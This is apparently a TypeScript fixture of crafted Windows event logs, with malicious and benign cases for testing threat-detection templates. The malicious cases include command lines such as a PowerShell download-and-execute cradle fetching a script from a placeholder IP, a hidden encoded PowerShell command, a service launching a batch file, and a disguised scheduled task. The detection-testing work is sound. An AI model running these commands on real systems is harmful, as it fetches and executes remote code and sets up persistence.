// Crafted Windows events for the Windows templates (detect/templates/windows.ts).
import { times, type TemplateCase } from './case.ts';

const failedLogon = (ago: number, computer: string, account: string, ip: string, subStatus = '0xc000006a') => ({
  ago, Computer: computer, EventID: 4625, Activity: '4625 - An account failed to log on.', TargetAccount: account,
  TargetUserName: account.split('\\').at(-1), IpAddress: ip, LogonType: 3, Status: '0xc000006d', SubStatus: subStatus,
});

const groupAdd = (ago: number, eventId: number, groupSid: string, group: string, memberSid: string, by = 'CONTOSO\\mallory') => ({
  ago, Computer: 'dc01.contoso.local', EventID: eventId, TargetSid: groupSid, TargetUserName: group, TargetAccount: `CONTOSO\\${group}`,
  MemberName: `CN=${memberSid.slice(-4)},OU=Staff,DC=contoso,DC=local`, MemberSid: memberSid, SubjectAccount: by,
});

const processStart = (ago: number, computer: string, image: string, commandLine: string) => ({
  ago, Computer: computer, EventID: 4688, Account: 'CONTOSO\\jdoe', NewProcessName: image, CommandLine: commandLine,
  ParentProcessName: 'C:\\Windows\\explorer.exe',
});

const POWERSHELL = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe';

const serviceInstalled = (ago: number, computer: string, name: string, imagePath: string) => ({
  ago, Computer: computer, EventLog: 'System', Source: 'Service Control Manager', EventID: 7045, UserName: 'CONTOSO\\mallory',
  EventData: `<DataItem type="System.XmlData" time="2026-01-01T00:00:00Z"><EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="ServiceName">${name}</Data><Data Name="ImagePath">${imagePath}</Data><Data Name="ServiceType">user mode service</Data><Data Name="StartType">demand start</Data><Data Name="AccountName">LocalSystem</Data></EventData></DataItem>`,
});

const taskCreated = (ago: number, computer: string, name: string, command: string, args: string) => ({
  ago, Computer: computer, EventID: 4698, SubjectAccount: 'CONTOSO\\mallory',
  EventData: `<EventData xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><Data Name="SubjectUserName">mallory</Data><Data Name="TaskName">${name}</Data><Data Name="TaskContent">&lt;?xml version="1.0" encoding="UTF-16"?&gt;&lt;Task&gt;&lt;Actions Context="Author"&gt;&lt;Exec&gt;&lt;Command&gt;${command}&lt;/Command&gt;&lt;Arguments&gt;${args}&lt;/Arguments&gt;&lt;/Exec&gt;&lt;/Actions&gt;&lt;/Task&gt;</Data></EventData>`,
});

const lockout = (ago: number, account: string) => ({
  ago, Computer: 'dc01.contoso.local', EventID: 4740, TargetAccount: `CONTOSO\\${account}`, TargetUserName: account, TargetDomainName: 'WS-17',
});

export const WINDOWS_CASES: TemplateCase[] = [
  {
    template: '7ede9741-6a6b-4f5f-b304-841c5a641f62',
    malicious: { SecurityEvent: times(20, (i) => failedLogon(50 - i, 'dc01.contoso.local', 'CONTOSO\\jdoe', '198.51.100.23')) },
    entity: 'CONTOSO\\jdoe',
    benign: { SecurityEvent: [
      ...times(14, (i) => failedLogon(50 - i, 'ws01.contoso.local', 'CONTOSO\\amy', '10.0.0.12')),
      ...times(12, (i) => failedLogon(40 - i, 'ws02.contoso.local', `CONTOSO\\user${i}`, '10.0.0.13')),
    ] },
  },
  {
    template: '819c0d9e-316f-4683-891d-758c0a2d32c8',
    malicious: { SecurityEvent: times(12, (i) => failedLogon(50 - i * 3, `srv${i % 3}.contoso.local`, `CONTOSO\\user${i}`, '203.0.113.77')) },
    entity: '203.0.113.77',
    benign: { SecurityEvent: [
      ...times(9, (i) => failedLogon(50 - i, 'srv1.contoso.local', `CONTOSO\\user${i}`, '10.0.0.5')),
      // Ten accounts from one address, but four tries each: a broken service, not a spray.
      ...times(40, (i) => failedLogon(55 - i, 'srv2.contoso.local', `CONTOSO\\svc${i % 10}`, '10.0.0.6')),
    ] },
  },
  {
    template: 'e8ed11ab-d16f-4791-b099-72d34536f154',
    malicious: { SecurityEvent: [
      groupAdd(0.5, 4732, 'S-1-5-32-544', 'Administrators', 'S-1-5-21-1111-2222-3333-1601'),
      groupAdd(0.4, 4728, 'S-1-5-21-1111-2222-3333-512', 'Domain Admins', 'S-1-5-21-1111-2222-3333-1602'),
    ] },
    entity: 'S-1-5-21-1111-2222-3333-1601',
    benign: { SecurityEvent: [
      groupAdd(0.5, 4732, 'S-1-5-32-555', 'Remote Desktop Users', 'S-1-5-21-1111-2222-3333-1603'),
      groupAdd(0.4, 4728, 'S-1-5-21-1111-2222-3333-1105', 'Finance', 'S-1-5-21-1111-2222-3333-1604'),
    ] },
  },
  {
    template: '04f9ed16-81f1-4f36-ad51-72a663b8bbf6',
    malicious: { SecurityEvent: [
      { ago: 40, Computer: 'dc01.contoso.local', EventID: 4720, TargetSid: 'S-1-5-21-1-2-3-2001', TargetAccount: 'CONTOSO\\svc-temp', SubjectAccount: 'CONTOSO\\mallory' },
      groupAdd(30, 4732, 'S-1-5-32-544', 'Administrators', 'S-1-5-21-1-2-3-2001'),
    ] },
    entity: 'CONTOSO\\svc-temp',
    benign: { SecurityEvent: [
      // A new account put in Users; an old account made an administrator; one made an administrator 100 minutes after its creation.
      { ago: 40, Computer: 'dc01.contoso.local', EventID: 4720, TargetSid: 'S-1-5-21-1-2-3-2002', TargetAccount: 'CONTOSO\\new.hire', SubjectAccount: 'CONTOSO\\helpdesk' },
      groupAdd(30, 4732, 'S-1-5-32-545', 'Users', 'S-1-5-21-1-2-3-2002'),
      groupAdd(20, 4732, 'S-1-5-32-544', 'Administrators', 'S-1-5-21-1-2-3-1500'),
      { ago: 110, Computer: 'dc01.contoso.local', EventID: 4720, TargetSid: 'S-1-5-21-1-2-3-2003', TargetAccount: 'CONTOSO\\it.admin2', SubjectAccount: 'CONTOSO\\helpdesk' },
      groupAdd(10, 4728, 'S-1-5-21-1-2-3-512', 'Domain Admins', 'S-1-5-21-1-2-3-2003'),
    ] },
  },
  {
    template: '4dade9f6-82c1-40de-8683-baa648d2891a',
    malicious: { SecurityEvent: [processStart(5, 'ws042.contoso.local', POWERSHELL, 'powershell.exe -NoP -W Hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA')] },
    entity: 'ws042.contoso.local',
    benign: { SecurityEvent: [
      processStart(5, 'ws042.contoso.local', POWERSHELL, 'powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\Backup-Database.ps1'),
      processStart(4, 'ws043.contoso.local', POWERSHELL, 'powershell.exe -Command Get-Service -Name Spooler'),
      processStart(3, 'ws044.contoso.local', 'C:\\Tools\\archiver.exe', 'archiver.exe -e SGVsbG9Xb3JsZEhlbGxvV29ybGQ= out.bin'),
    ] },
  },
  {
    template: '7048fe95-9079-4bfc-8041-ca02ca9dcc79',
    malicious: { SecurityEvent: [processStart(5, 'ws050.contoso.local', POWERSHELL, "powershell -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"")] },
    entity: 'ws050.contoso.local',
    benign: { SecurityEvent: [
      processStart(5, 'ws051.contoso.local', POWERSHELL, 'powershell -c Invoke-WebRequest -Uri https://intranet.contoso.local/report.csv -OutFile C:\\Reports\\r.csv'),
      processStart(4, 'ws052.contoso.local', POWERSHELL, 'powershell -c iex (Get-Content C:\\Scripts\\local.ps1 -Raw)'),
    ] },
  },
  {
    template: 'e76da137-07bb-4de6-9d7b-da80dc8eb7aa',
    malicious: { SecurityEvent: [{ ago: 0.5, Computer: 'fs01.contoso.local', EventID: 1102, SubjectAccount: 'CONTOSO\\mallory', Activity: '1102 - The audit log was cleared.' }] },
    entity: 'fs01.contoso.local',
    benign: { SecurityEvent: [
      { ago: 0.5, Computer: 'fs01.contoso.local', EventID: 1100, Activity: '1100 - The event logging service has shut down.' },
      { ago: 0.4, Computer: 'fs01.contoso.local', EventID: 4624, TargetAccount: 'CONTOSO\\amy', Activity: '4624 - An account was successfully logged on.' },
    ] },
  },
  {
    template: '9a5ec9bf-268a-4ec5-9edf-c16dce901619',
    malicious: { Event: [serviceInstalled(20, 'app07.contoso.local', 'updsvc', '%COMSPEC% /c C:\\Users\\Public\\run.bat')] },
    entity: 'app07.contoso.local',
    benign: { Event: [
      serviceInstalled(20, 'app07.contoso.local', 'ContosoAgent', '"C:\\Program Files\\Contoso\\Agent\\agent.exe" --service'),
      { ago: 10, Computer: 'app07.contoso.local', EventLog: 'System', Source: 'Service Control Manager', EventID: 7036, EventData: '<DataItem/>' },
    ] },
  },
  {
    template: 'b07611f6-8aab-4935-b053-c1c9f6aa2a28',
    malicious: { SecurityEvent: [taskCreated(20, 'ws060.contoso.local', '\\Microsoft\\Windows\\Updater', 'powershell.exe', '-w hidden -f C:\\Users\\Public\\u.ps1')] },
    entity: 'ws060.contoso.local',
    benign: { SecurityEvent: [taskCreated(20, 'ws061.contoso.local', '\\Contoso\\Updater', 'C:\\Program Files\\Contoso\\Updater\\update.exe', '/silent')] },
  },
  {
    template: '069e7397-9345-4d38-a964-158e13dbfa1c',
    malicious: { SecurityEvent: times(6, (i) => lockout(40 - i, `user${i}`)) },
    entity: 'dc01.contoso.local',
    benign: { SecurityEvent: [...times(3, (i) => lockout(40 - i, `user${i}`)), ...times(6, (i) => lockout(30 - i, 'amy'))] },
  },
  {
    template: 'b11843a4-1da8-428c-a4dc-1474082d2330',
    malicious: { SecurityEvent: [failedLogon(30, 'vpn01.contoso.local', 'CONTOSO\\former.employee', '198.51.100.4', '0xC0000072')] },
    entity: 'CONTOSO\\former.employee',
    benign: { SecurityEvent: times(3, (i) => failedLogon(30 - i, 'vpn01.contoso.local', 'CONTOSO\\amy', '198.51.100.5', '0xc000006a')) },
  },
];
